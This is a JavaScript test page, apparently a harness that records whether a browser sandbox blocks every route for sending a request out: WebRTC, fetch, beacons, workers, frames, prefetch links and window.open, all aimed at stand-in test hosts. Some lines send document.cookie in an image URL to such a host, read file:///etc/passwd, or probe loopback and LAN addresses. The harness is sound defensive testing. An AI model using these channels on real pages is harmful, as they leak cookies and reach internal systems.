// Everything a page can try to get a packet out of the browser, or a request out of its site.
document.getElementById('state').textContent = 'scripts run';
window.results = {};
const H = name => `http://${name}.fromsite.test/`, S = name => `https://${name}.fromsite.test/`;
const attempt = (name, work) => {
  try {
    const done = work();
    Promise.resolve(done).then(v => results[name] ??= 'done: ' + String(v).slice(0, 60), e => results[name] = String(e).slice(0, 80));
  } catch (e) { results[name] = String(e).slice(0, 80); }
};
const rtc = servers => async () => {
  const p = new RTCPeerConnection({ iceServers: servers, iceCandidatePoolSize: 4 });
  const found = [];
  p.onicecandidate = e => e.candidate && found.push(e.candidate.candidate);
  p.createDataChannel('x');
  await p.setLocalDescription(await p.createOffer());
  // A peer that says where to send to.
  const ufrag = 'abcd', pwd = 'abcdefghijklmnopqrstuvwx';
  const answer = p.localDescription.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + ufrag).replace(/a=ice-pwd:.*/g, 'a=ice-pwd:' + pwd)
    .replace(/a=setup:.*/g, 'a=setup:active').replace(/a=candidate:.*\r\n/g, '');
  await p.setRemoteDescription({ type: 'answer', sdp: answer }).catch(() => 0);
  for (const ip of ['203.0.113.99', '192.168.1.1', '127.0.0.1', '224.0.0.251', 'peer.fromsite.test', 'abc.local']) {
    for (const [transport, more] of [['udp', ''], ['tcp', ' tcptype passive']]) {
      await p.addIceCandidate({ candidate: `candidate:1 1 ${transport} 2122260223 ${ip} 3478 typ host${more} ufrag ${ufrag}`, sdpMid: '0' }).catch(() => 0);
    }
  }
  await new Promise(ok => setTimeout(ok, 4000));
  return found.join(' | ') || 'no candidates';
};
attempt('rtc stun', rtc([{ urls: 'stun:203.0.113.99:3478' }, { urls: 'stun:stun.fromsite.test:3478' }]));
attempt('rtc turn', rtc(['udp', 'tcp'].map(t => ({ urls: 'turn:203.0.113.99:3478?transport=' + t, username: 'u', credential: 'p' }))));
attempt('rtc turns', rtc([{ urls: 'turns:turns.fromsite.test:8443?transport=tcp', username: 'u', credential: 'p' }]));
attempt('rtc loopback', rtc([{ urls: 'stun:127.0.0.1:8099' }, { urls: 'stun:[::1]:8099' }, { urls: 'stun:192.168.1.1' }]));
attempt('rtc in a frame', () => {
  const f = document.createElement('iframe'); document.body.append(f);
  return rtc([{ urls: 'stun:203.0.113.99:443' }]).call(f.contentWindow);
});
attempt('rtc in a blob', () => {
  const f = document.createElement('iframe');
  f.src = URL.createObjectURL(new Blob(["<script>p=new RTCPeerConnection({iceServers:[{urls:'stun:203.0.113.99:1900'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))<\/script>"], { type: 'text/html' }));
  document.body.append(f);
});
attempt('rtc certificate', () => RTCPeerConnection.generateCertificate({ name: 'ECDSA', namedCurve: 'P-256' }).then(() => 'made'));
attempt('fetch', () => fetch(H('fetch'), { mode: 'no-cors' }));
attempt('fetch keepalive', () => fetch(H('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }));
attempt('fetch ip', () => fetch('http://203.0.113.99/', { mode: 'no-cors' }));
attempt('fetch loopback', () => fetch('http://127.0.0.1:8099/', { mode: 'no-cors' }));
attempt('fetch localhost', () => fetch('http://localhost:8099/', { mode: 'no-cors', targetAddressSpace: 'loopback' }));
attempt('fetch lan', () => fetch('http://192.168.1.1/', { mode: 'no-cors' }));
attempt('fetch file', () => fetch('file:///etc/passwd'));
attempt('beacon', () => navigator.sendBeacon(H('beacon'), 'x'));
attempt('xhr', () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('POST', H('xhr')); x.onload = ok; x.onerror = () => no('error'); x.send('x'); }));
attempt('websocket', () => new Promise((ok, no) => { const w = new WebSocket('ws://ws.fromsite.test/'); w.onopen = ok; w.onerror = () => no('error'); }));
attempt('websocket own', () => new Promise((ok, no) => { const w = new WebSocket(`ws://${location.host}/`); w.onopen = ok; w.onerror = () => no('error'); }));
attempt('websocket loopback', () => new Promise((ok, no) => { const w = new WebSocket('ws://127.0.0.1:8099/'); w.onopen = ok; w.onerror = () => no('error'); }));
attempt('eventsource', () => new Promise((ok, no) => { const e = new EventSource(H('eventsource')); e.onopen = ok; e.onerror = () => { e.close(); no('error'); }; }));
attempt('webtransport', () => new WebTransport('https://203.0.113.99:443/').ready);
attempt('service worker', () => navigator.serviceWorker.register('worker.js'));
attempt('shared worker', () => new SharedWorker(H('sharedworker')));
attempt('worker import', () => new Worker(URL.createObjectURL(new Blob([`try{importScripts('${H('workerimport')}')}catch(e){};fetch('${H('workerfetch')}',{mode:'no-cors'});new WebSocket('ws://workerws.fromsite.test/')`]))));
attempt('import()', () => import(H('dynimport') + 'x.js'));
attempt('worklet', () => CSS.paintWorklet.addModule(H('worklet')));
attempt('audio worklet', () => new AudioContext().audioWorklet.addModule(H('audioworklet')));
attempt('payment', () => new PaymentRequest([{ supportedMethods: S('payment') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment());
attempt('credential', () => navigator.credentials.get({ identity: { providers: [{ configURL: S('fedcm') + 'c', clientId: '1' }] } }));
attempt('protocol handler', () => navigator.registerProtocolHandler('web+x', H('protocol') + '%s'));
attempt('font face', () => new FontFace('g', `url(${H('fontface')})`).load());
attempt('image', () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no('error'); i.src = H('newimage') + '?' + document.cookie; }));
attempt('notification', () => new Notification('x', { icon: H('notification') }));
attempt('media session', () => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: H('artwork') }] }); });
attempt('background fetch', () => navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('x', [S('bgfetch')])));
attempt('speculation rules', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [H('jsspec')] }], prerender: [{ source: 'list', urls: [H('jsspec2')] }] }); document.head.append(s); });
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'icon', 'manifest', 'modulepreload', 'stylesheet', 'next']) {
  attempt('link ' + rel, () => { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = H('jslink-' + rel); document.head.append(l); });
}
for (const [tag, key] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['video', 'src'], ['video', 'poster'], ['frame', 'src'], ['portal', 'src'], ['fencedframe', 'src']]) {
  attempt('element ' + tag + ' ' + key, () => { const e = document.createElement(tag); e[key] = H(`js-${tag}-${key}`); document.body.append(e); });
}
attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = `<link rel=preconnect href=${H('jssrcdoc')}><img src=${H('jssrcdocimg')}>`; document.body.append(f); });
attempt('form in a frame', () => { const f = document.createElement('iframe'); f.name = 'into'; document.body.append(f); const form = document.getElementById('form'); form.target = 'into'; form.method = 'get'; form.submit(); });
attempt('document.write', () => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write(`<link rel=preconnect href=${H('written')}><img src=${H('writtenimg')}>`); });
attempt('clean frame', () => { const f = document.createElement('iframe'); f.src = 'about:blank'; document.body.append(f); return f.contentWindow.fetch(H('cleanframe'), { mode: 'no-cors' }); });
attempt('error page frame', () => new Promise(ok => { const f = document.createElement('iframe'); f.src = '/nothing-here'; f.onload = () => { try { new f.contentWindow.Image().src = H('errorframe'); const l = f.contentDocument.createElement('link'); l.rel = 'preconnect'; l.href = H('errorlink'); f.contentDocument.head.append(l); } catch (e) { results['error page inner'] = String(e); } ok(); }; document.body.append(f); }));
attempt('text frame', () => new Promise(ok => { const f = document.createElement('iframe'); f.src = 'data.json'; f.onload = () => { try { new f.contentWindow.Image().src = H('textframe'); f.contentWindow.fetch(H('textframefetch'), { mode: 'no-cors' }).catch(() => 0); } catch (e) { results['text inner'] = String(e); } ok(); }; document.body.append(f); }));
// What may lead the page away comes last.
setTimeout(() => {
  attempt('frame that leads the page away', () => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-top-navigation'; f.src = 'frame-nav.html'; document.body.append(f); });
  attempt('ping', () => document.getElementById('ping').click());
  attempt('form', () => document.getElementById('form').submit());
  attempt('open', () => String(window.open(H('open'))));
  attempt('open blank', () => { const w = window.open('about:blank'); w.location = H('openblank'); });
  attempt('open blob', () => String(window.open(URL.createObjectURL(new Blob([`<script>location='${H('openblob')}'<\/script><img src=${H('openblobimg')}>`], { type: 'text/html' })))));
  attempt('open file', () => String(window.open('file:///etc/passwd')));
  attempt('open view-source', () => String(window.open('view-source:' + H('viewsource'))));
  attempt('open settings', () => String(window.open('chrome://settings')));
  attempt('mailto', () => { const a = document.createElement('a'); a.href = 'mailto:a@mailto.fromsite.test'; a.click(); });
  attempt('intent', () => { const a = document.createElement('a'); a.href = 'intent://intent.fromsite.test/#Intent;scheme=http;end'; a.click(); });
  attempt('download', () => { const a = document.createElement('a'); a.href = H('download') + 'x.bin'; a.download = 'x'; a.click(); });
}, 7000);
